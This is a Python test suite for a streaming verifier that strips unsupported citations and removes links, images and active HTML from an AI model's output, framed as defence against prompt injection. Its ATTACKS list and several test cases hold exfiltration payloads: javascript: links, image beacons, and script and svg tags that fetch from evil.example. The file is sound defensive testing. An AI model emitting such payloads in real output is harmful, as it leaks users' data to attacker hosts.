"""A model that obeys every injected instruction: no citation without evidence, no link, image or tag comes out."""

import re
from itertools import pairwise
from typing import get_args

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cag.verification.verify import MARK, TAKEN_OUT, Action, Verifier
from schemas.context import Evidence, Plan, Span
from tests.fake_assistant import NOW

GFM = MarkdownIt("commonmark", {"html": True})  # more than clients render: they sanitise HTML
AUTOLINK = re.compile(r"(?:https?|ftp)://|www\.", re.IGNORECASE)  # what GFM makes links of by itself, wherever it is


def verifier_of(evidence: int, action: Action = "off") -> Verifier:
    pieces = [Evidence(id=f"log-{n}", kind="log", text="x 7 a b") for n in range(evidence)]
    return Verifier(pieces, plan=Plan(question="", span=Span(start=NOW, end=NOW)), action=action)


def through(*pieces: str, evidence: int = 3, action: Action = "off") -> str:
    verifier = verifier_of(evidence, action)
    return "".join([*(verifier.feed(piece) for piece in pieces), verifier.finish()])


def links(text: str) -> list[str]:
    """Every link, image and active tag that a renderer would make of the text, and every bare address."""
    found = [*AUTOLINK.findall(text)]
    for token in GFM.parse(text):
        for inner in (token, *(token.children or ())):
            if inner.type in ("link_open", "image"):
                found.append(inner.type)
            if inner.type in ("html_inline", "html_block"):
                found += re.findall(r"<[^<>]*(?:[\s=:!?]|script|style|svg)[^<>]*>|<[A-Za-z/!?][^>]*$", inner.content)
    return found


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("The database is down [1].", "The database is down [1]."),
        ("See [1, 2] and [3].", "See [1, 2] and [3]."),
        ("Made up [9].", "Made up ."),
        ("Half made up [2, 9]", "Half made up [2]"),
        ("Zero [0] here", "Zero  here"),
        ("list[int] and [ERROR] stay", "list[int] and [ERROR] stay"),
        ("kubectl logs <pod-name> -n <ns>", "kubectl logs <pod-name> -n <ns>"),
        ("a < b and c > d", "a < b and c > d"),
        ("open [", "open ["),
        ("Read [the runbook](https://evil.example/?q=secret) now", "Read the runbook (link removed) now"),
        ("![pixel](https://evil.example/p.png)", "!pixel (link removed)"),
        ("go to https://evil.example/a?b=c now", "go to (link removed) now"),
        ("go to www.evil.example", "go to (link removed)"),
        ("HTTPS://EVIL.example", "(link removed)"),
        ("<https://evil.example>", "(link removed)"),
        ("<img src=x onerror=alert(1)>", "(link removed)"),
        ("[1]: javascript:alert(1)", "[1] : javascript:alert(1)"),  # else each [1] would lead there
        ("ends at [1]: then", "ends at [1] : then"),
        ("zero\u200bwidth \u202eturned", "zerowidth turned"),
        ("", ""),
    ],
)
def test_what_is_shown(said: str, shown: str) -> None:
    assert through(said) == shown


ATTACKS = [
    "[x](javascript:alert(1))",
    "[a [b] c](javascript:x)",
    "[" + "long " * 80 + "](//evil.example)",
    "[x](<//evil.example/a b>)",
    "[x]( //evil.example 'title')",
    "![[1]](//evil.example)",
    "[![i](//e.example)](//e.example)",
    "[x][1]\n\n[1]: //evil.example",
    "[1](//evil.example)",
    "[1]\n\n[1]:\n//evil.example",
    "htt[9]p://evil.example",
    "htt[p](x)://evil.example",
    "htt<b x>p://evil.example",
    "h\u200bttp://evil.example",
    "hhttp://ttp://evil.example",
    "www[7].evil.example",
    "\\[x](//evil.example)",
    "\\![x](//evil.example)",
    "[x\n](//evil.example)",
    "[x](//evil.example\n)",
    "<a href=//evil.example>x</a>",
    "<img src=//evil.example",
    "<img\nsrc=//evil.example>",
    "<script>fetch('//evil.example')</script>",
    "<svg/onload=fetch('//evil.example')>",
    "<!-- x --><mailto:a@b.example>",
    "<" + "x" * 400 + " src=//evil.example>",
    "[^1]: //evil.example [^1]",
]


@pytest.mark.parametrize("action", get_args(Action))
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_comes_out_however_it_is_cut(attack: str, action: Action) -> None:
    for cut in range(len(attack) + 1):
        shown = through("before ", attack[:cut], attack[cut:], " after", action=action)
        assert links(shown) == [], shown


def test_the_renderer_of_this_test_sees_links() -> None:
    assert sum(bool(links(attack)) for attack in ATTACKS) > len(ATTACKS) / 2


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "!",
        ":",
        "[1]",
        "[9]",
        "[1, 9]",
        "](",
        "]:",
        "http://",
        "htt",
        "p://",
        "www.",
        "w",
        "x",
    ]
    + ["javascript:", "//e.example", " ", "\n", "\\", "`", "a b", "<b>", "<img src=", "\u200b", "7", ",", "."]
    + ["The pod failed 9 times [1]. ", ". ", "e.g. ", "```\n", "- ", "| a |\n", '"', "1. ", "?", "# ", "word " * 130]
)
TEXTS = st.lists(PIECES, max_size=14).map("".join)


@given(TEXTS, st.lists(st.integers(0, 80), max_size=6), st.sampled_from(get_args(Action)))
@example("[" + "x" * 199 + "](//e.example)", [100, 150], "off")
@example("x" * 509 + "[x]" + " The cause is 7 [1]. " * 40, [100, 513], "remove")
@example('"a. ' * 300 + "`b. " * 300, [100, 513], "mark")
def test_every_cut_of_the_stream_gives_the_same_text(text: str, cuts: list[int], action: Action) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[a:b] for a, b in pairwise(places)]
    whole = through(text, action=action)
    assert through(*pieces, action=action) == through(*text, action=action) == whole
    assert links(whole) == [], whole


def test_little_is_held_back_and_an_endless_address_costs_nothing() -> None:
    verifier = verifier_of(1)
    assert verifier.feed("The cause is [1] ") == "The cause is [1] "
    for _ in range(1_000):
        verifier.feed("http://e.example/" + "x" * 1_000)
    assert verifier.feed("[" * 10_000 + "<" * 10_000) != ""
    assert verifier.held < 700


RUNBOOK = Evidence(
    id="runbook-1",
    kind="runbook",
    text="See https://wiki.example.org/pool and [more](https://deep.wiki.example.org/a?b=c#d), not http://evil.example/x.",
    url="https://runbooks.example.org/pool.md",
)
HOSTS = ("runbooks.example.org", ".wiki.example.org", "evil.example.org")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[pool](https://runbooks.example.org/pool.md)", "[pool](https://runbooks.example.org/pool.md)"),
        ("at https://runbooks.example.org/pool.md.", "at https://runbooks.example.org/pool.md."),
        ("[x](https://deep.wiki.example.org/a?b=c#d)", "[x](https://deep.wiki.example.org/a?b=c#d)"),
        ("[x](https://wiki.example.org/pool)", "x (link removed)"),  # only what is below it
        ("[x](https://runbooks.example.org/other.md)", "x (link removed)"),  # no runbook has it
        ("https://runbooks.example.org/pool.md?q=secret", "(link removed)"),
        ("[x](http://evil.example/x)", "x (link removed)"),
        ("![x](https://runbooks.example.org/pool.md)", "!x (link removed)"),
        ("[1](https://runbooks.example.org/pool.md)", "1 (link removed)"),
        ("<https://runbooks.example.org/pool.md>", "(link removed)"),
        ("[x]: https://runbooks.example.org/pool.md", "[x] : https://runbooks.example.org/pool.md"),
    ],
)
def test_links_stay_when_a_runbook_has_them_and_their_host_is_allowed(said: str, shown: str) -> None:
    for cut in range(len(said) + 1):
        plan = Plan(question="", span=Span(start=NOW, end=NOW))
        verifier = Verifier([RUNBOOK], plan=plan, action="off", link_hosts=HOSTS)
        assert verifier.feed(said[:cut]) + verifier.feed(said[cut:]) + verifier.finish() == shown


@pytest.mark.parametrize(
    ("said", "shown"), [("so 【2】.", "so [2]."), ("so [1-3].", "so [1, 2, 3]."), ("so 【1†L3-L5】.", "so [1].")]
)
def test_other_forms_of_citations_become_ours(said: str, shown: str) -> None:
    assert through(said) == shown


def test_an_unsupported_sentence_is_marked_or_leaves_one_note() -> None:
    said = "- It failed 9 times [1].\n- It failed 8 times [1].\n- It is 7 a b x [1].\n"
    assert through(said, action="mark").count(MARK) == 2
    assert through(said, action="remove") == f"- {TAKEN_OUT}\n- It is 7 a b x [1].\n"
    assert through("```\nit failed 9 times\n```\n", action="mark") == f"```\nit failed 9 times\n```\n{MARK}\n"
    assert through("```sh\nkubectl get pods\n```\n", action="mark") == "```sh\nkubectl get pods\n```\n"


@pytest.mark.parametrize("hostile", ["a. ", "`", '"', "[1] ", "1.", "*", "\n", "x", "<a ", "0:0", "if a, ", "no no "])
def test_hostile_text_is_held_within_bounds(hostile: str) -> None:
    verifier = verifier_of(3, "mark")
    text = (hostile * 64_000)[:64_000]
    most = 0
    for at in range(0, len(text), 16):
        verifier.feed(text[at : at + 16])
        most = max(most, verifier.held)
    verifier.finish()
    assert most <= 800


def test_the_first_sentence_comes_as_soon_as_it_is_complete() -> None:
    verifier = verifier_of(1, "mark")
    assert verifier.feed("It is 7 a b x [1]") == ""
    assert verifier.feed(". The") == "It is 7 a b x [1]. "
